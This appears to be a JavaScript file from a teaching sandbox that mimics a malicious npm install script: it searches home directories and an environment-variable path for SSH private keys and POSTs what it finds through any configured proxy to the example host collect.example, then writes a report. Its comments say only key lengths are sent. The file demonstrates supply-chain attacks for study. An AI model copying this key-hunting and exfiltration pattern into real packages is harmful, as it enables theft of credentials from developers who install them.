// The villain of the piece. It does what stolen packages have really done in their install scripts: it looks for
// an SSH key and posts what it finds to a server of its own. In a cell neither works; `npm start` shows how that
// looks. The host name is reserved for examples, and of a key nothing but its length in bytes ever leaves this script.
import { writeFileSync } from "node:fs";
import { request } from "node:http";
import os from "node:os";
import path from "node:path";
import { lookForKey } from "./look-for-key.js";

const target = new URL("http://collect.example/");

/** Posts through the proxy of the environment where there is one, as any well-made thief would. */
function post(body) {
  const proxy = process.env.http_proxy ? new URL(process.env.http_proxy) : undefined;
  const options = proxy
    ? { host: proxy.hostname, port: proxy.port, path: target.href, headers: { host: target.host } }
    : { host: target.hostname, port: target.port || 80, path: target.pathname };
  return new Promise((resolve) => {
    const sent = request({ ...options, method: "POST", timeout: 10_000 }, (response) => {
      let answer = "";
      response.setEncoding("utf8").on("data", (text) => {
        answer += text;
      });
      response.on("end", () => resolve({ status: response.statusCode, answer: answer.slice(0, 2000) }));
    });
    sent.on("timeout", () => sent.destroy(new Error("no answer within 10 s")));
    sent.on("error", (error) => resolve({ error: error.code ?? error.message }));
    sent.end(body);
  });
}

const places = [
  path.join(os.homedir(), ".ssh/id_ed25519"),
  path.join(os.userInfo().homedir, ".ssh/id_ed25519"),
  process.env.FIRST_JOB_KEY,
].filter((place) => place !== undefined);
const reads = [...new Set(places)].map(lookForKey);
const loot = reads.filter((read) => read.bytes !== undefined);
const posted = { url: target.href, ...(await post(JSON.stringify(loot))) };

// Beside the project's package.json: npm links this folder, or copies it into node_modules; the way up is the same.
const report = new URL("../../attempts.json", import.meta.url);
writeFileSync(report, `${JSON.stringify({ reads, posted }, undefined, 2)}\n`);
